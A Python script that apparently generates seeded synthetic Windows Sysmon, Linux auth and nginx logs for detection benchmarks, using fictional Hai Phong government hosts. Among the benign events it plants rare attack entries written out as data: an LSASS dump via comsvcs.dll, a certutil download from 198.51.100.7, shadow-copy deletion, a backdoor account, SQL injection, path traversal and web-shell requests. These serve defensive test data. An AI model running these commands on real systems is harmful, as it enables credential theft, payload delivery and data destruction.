"""Seeded synthetic logs for the detection benchmarks: Windows (evtx_dump JSON lines), Linux auth
syslog and nginx access logs, mostly benign with a sprinkling of attacks."""

from __future__ import annotations

import argparse
import random
from collections.abc import Callable, Iterator
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path

import orjson

START = datetime(2026, 11, 2, 0, 0, tzinfo=UTC)
HOSTS = [
    f"{p}{i:02d}.haiphong.gov.vn"
    for p in ("dvc-web", "qlvb-app", "mail", "ad-dc")
    for i in range(1, 6)
]
USERS = [
    "nguyen.van.an",
    "tran.thi.binh",
    "le.van.cuong",
    "pham.thi.dung",
    "hoang.van.em",
    "SYSTEM",
]
SYS32 = "C:\\Windows\\System32\\"
#: Benign process launches as they appear on city workstations and servers: parent, image, command line.
PROCESSES = [
    (
        SYS32 + "services.exe",
        SYS32 + "svchost.exe",
        SYS32 + "svchost.exe -k netsvcs -p -s Schedule",
    ),
    (
        SYS32 + "services.exe",
        SYS32 + "svchost.exe",
        SYS32 + "svchost.exe -k LocalService -p -s EventLog",
    ),
    (SYS32 + "svchost.exe", SYS32 + "taskhostw.exe", "taskhostw.exe"),
    (
        "C:\\Windows\\explorer.exe",
        "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
        '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer --lang=vi',
    ),
    (
        "C:\\Windows\\explorer.exe",
        "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
        '"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "D:\\VanBan\\bao-cao-thang-11.docx"',
    ),
    (
        "C:\\Windows\\explorer.exe",
        "C:\\Program Files\\7-Zip\\7zFM.exe",
        '"C:\\Program Files\\7-Zip\\7zFM.exe" "D:\\VanBan\\ho-so.zip"',
    ),
    (
        "C:\\Windows\\explorer.exe",
        SYS32 + "notepad.exe",
        SYS32 + 'notepad.exe "D:\\VanBan\\ghi-chu.txt"',
    ),
    (SYS32 + "services.exe", SYS32 + "msiexec.exe", SYS32 + "msiexec.exe /V"),
    (
        SYS32 + "svchost.exe",
        SYS32 + "wbem\\WmiPrvSE.exe",
        SYS32 + "wbem\\wmiprvse.exe -secured -Embedding",
    ),
    (
        "C:\\Windows\\explorer.exe",
        "C:\\Program Files\\Unikey\\UniKeyNT.exe",
        '"C:\\Program Files\\Unikey\\UniKeyNT.exe"',
    ),
]
#: Benign outbound connections: image and destination port.
CONNECTIONS = [
    ("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", 443),
    (SYS32 + "svchost.exe", 443),
    (SYS32 + "svchost.exe", 53),
    (SYS32 + "lsass.exe", 389),
    (SYS32 + "lsass.exe", 88),
    ("C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE", 443),
]
REGISTRY = [
    (
        SYS32 + "svchost.exe",
        r"HKLM\SOFTWARE\Microsoft\Windows Defender\Signature Updates\SignaturesLastUpdated",
    ),
    (
        "C:\\Windows\\explorer.exe",
        r"HKU\S-1-5-21-1\Software\Microsoft\Windows\CurrentVersion\Explorer\RecentDocs\MRUList",
    ),
    (
        "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
        r"HKU\S-1-5-21-1\Software\Microsoft\Office\16.0\Word\Reading Locations\Document 0\Position",
    ),
]
ATTACK_CMD = [
    (
        SYS32 + "cmd.exe",
        SYS32 + "rundll32.exe",
        r"C:\Windows\System32\rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\Temp\l.dmp full",
    ),
    (
        SYS32 + "cmd.exe",
        SYS32 + "certutil.exe",
        r"certutil.exe -urlcache -split -f http://198.51.100.7/a.exe C:\Temp\a.exe",
    ),
    (SYS32 + "cmd.exe", SYS32 + "vssadmin.exe", r"vssadmin.exe delete shadows /all /quiet"),
    (SYS32 + "cmd.exe", SYS32 + "net.exe", r"net.exe user backdoor P@ssw0rd /add"),
]
SYSMON = "Microsoft-Windows-Sysmon/Operational"
HANOI = timezone(timedelta(hours=7))
BROWSERS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/130.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 15) AppleWebKit/537.36 Chrome/130.0 Mobile Safari/537.36",
]


def _system(rng: random.Random, t: datetime, eid: int, channel: str, provider: str) -> dict:
    return {
        "Provider": {"#attributes": {"Name": provider}},
        "EventID": eid,
        "Level": 4,
        "TimeCreated": {"#attributes": {"SystemTime": t.strftime("%Y-%m-%dT%H:%M:%S.%fZ")}},
        "EventRecordID": rng.randrange(1, 10**7),
        "Channel": channel,
        "Computer": rng.choice(HOSTS),
    }


def windows_event(rng: random.Random, t: datetime) -> dict:
    roll = rng.random()
    user = rng.choice(USERS)
    if roll < 0.45:  # Sysmon process creation
        parent, img, cmd = rng.choice(ATTACK_CMD) if rng.random() < 0.001 else rng.choice(PROCESSES)
        system = _system(rng, t, 1, SYSMON, "Microsoft-Windows-Sysmon")
        data = {
            "UtcTime": t.strftime("%Y-%m-%d %H:%M:%S.%f")[:-3],
            "ProcessGuid": f"{{{rng.getrandbits(128):032x}}}",
            "ProcessId": rng.randrange(100, 30000),
            "Image": img,
            "OriginalFileName": img.rsplit("\\", 1)[-1],
            "CommandLine": cmd,
            "CurrentDirectory": "C:\\Windows\\system32\\",
            "User": f"HAIPHONG\\{user}",
            "IntegrityLevel": rng.choice(["Medium", "High", "System"]),
            "Hashes": f"SHA256={rng.getrandbits(256):064X}",
            "ParentImage": parent,
            "ParentCommandLine": parent,
        }
    elif roll < 0.65:  # Sysmon network connection
        image, port = rng.choice(CONNECTIONS)
        system = _system(rng, t, 3, SYSMON, "Microsoft-Windows-Sysmon")
        data = {
            "Image": image,
            "User": f"HAIPHONG\\{user}",
            "Protocol": "tcp",
            "Initiated": "true",
            "SourceIp": f"10.20.{rng.randrange(256)}.{rng.randrange(1, 255)}",
            "SourcePort": rng.randrange(1024, 65535),
            "DestinationIp": f"10.20.{rng.randrange(256)}.{rng.randrange(1, 255)}",
            "DestinationPort": port,
        }
    elif roll < 0.80:  # Sysmon registry set
        image, key = rng.choice(REGISTRY)
        system = _system(rng, t, 13, SYSMON, "Microsoft-Windows-Sysmon")
        data = {
            "EventType": "SetValue",
            "Image": image,
            "TargetObject": key,
            "Details": "DWORD (0x00000001)",
        }
    elif roll < 0.90:  # Sysmon file create
        system = _system(rng, t, 11, SYSMON, "Microsoft-Windows-Sysmon")
        data = {
            "Image": rng.choice(PROCESSES)[1],
            "TargetFilename": f"C:\\Users\\{user}\\AppData\\Local\\Temp\\tmp{rng.randrange(10**6):06d}.tmp",
        }
    else:  # Security logons
        eid = 4625 if rng.random() < 0.05 else 4624
        system = _system(rng, t, eid, "Security", "Microsoft-Windows-Security-Auditing")
        data = {
            "TargetUserName": user,
            "TargetDomainName": "HAIPHONG",
            "LogonType": rng.choice([2, 3, 10]),
            "IpAddress": f"10.20.{rng.randrange(256)}.{rng.randrange(1, 255)}",
            "WorkstationName": "WS-" + str(rng.randrange(100)),
            "AuthenticationPackageName": "Kerberos",
        }
    return {"Event": {"System": system, "EventData": data}}


def windows_lines(rng: random.Random, n: int) -> Iterator[bytes]:
    for i in range(n):
        yield orjson.dumps(windows_event(rng, START + timedelta(milliseconds=90 * i))) + b"\n"


def auth_lines(rng: random.Random, n: int) -> Iterator[bytes]:
    for i in range(n):
        t = START + timedelta(milliseconds=90 * i)
        host = rng.choice(HOSTS).split(".")[0]
        pid = rng.randrange(1000, 60000)
        ip = (
            f"203.0.113.{rng.randrange(1, 255)}"
            if rng.random() < 0.2
            else f"10.20.0.{rng.randrange(1, 255)}"
        )
        user = rng.choice(USERS)
        msg = rng.choice(
            [
                f"sshd[{pid}]: Accepted publickey for {user} from {ip} port {rng.randrange(1024, 65535)} ssh2",
                f"sshd[{pid}]: Failed password for invalid user admin from {ip} port 22 ssh2",
                f"sudo:   {user} : TTY=pts/0 ; PWD=/home/{user} ; USER=root ; COMMAND=/usr/bin/systemctl restart nginx",
                f"CRON[{pid}]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)",
                f"systemd-logind[{pid}]: New session {rng.randrange(9999)} of user {user}.",
            ]
        )
        yield f"{t:%b} {t.day:2d} {t:%H:%M:%S} {host} {msg}\n".encode()


def access_lines(rng: random.Random, n: int) -> Iterator[bytes]:
    paths = [
        "/",
        "/dich-vu-cong/tra-cuu-ho-so",
        "/tin-tuc/2026/11/ban-tin.html",
        "/static/app.js",
        "/api/v1/thu-tuc?id=1234",
    ]
    attacks = [
        "/dich-vu-cong/tra-cuu?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--",
        "/../../../../etc/passwd",
        "/uploads/shell.php?cmd=whoami",
    ]
    for i in range(n):
        t = START + timedelta(milliseconds=90 * i)
        path = rng.choice(attacks) if rng.random() < 0.002 else rng.choice(paths)
        ip = f"{rng.randrange(1, 223)}.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(1, 255)}"
        status = rng.choice([200, 200, 200, 304, 404, 302])
        ua = "sqlmap/1.8#stable" if rng.random() < 0.001 else rng.choice(BROWSERS)
        stamp = t.astimezone(HANOI).strftime("%d/%b/%Y:%H:%M:%S %z")
        yield f'{ip} - - [{stamp}] "GET {path} HTTP/1.1" {status} {rng.randrange(200, 90000)} "-" "{ua}"\n'.encode()


GENERATORS: dict[str, tuple[str, Callable[[random.Random, int], Iterator[bytes]]]] = {
    "windows": ("windows.jsonl", windows_lines),
    "linux": ("auth.log", auth_lines),
    "web": ("access.log", access_lines),
}


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("kind", choices=sorted(GENERATORS))
    parser.add_argument("--events", type=int, default=1_000_000)
    parser.add_argument("--out", type=Path, default=Path(__file__).parent / "data")
    parser.add_argument("--seed", type=int, default=1167)
    args = parser.parse_args()
    name, generator = GENERATORS[args.kind]
    args.out.mkdir(parents=True, exist_ok=True)
    target = args.out / name
    with target.open("wb") as handle:
        handle.writelines(generator(random.Random(args.seed), args.events))
    print(f"wrote {args.events} events to {target}")


if __name__ == "__main__":
    main()
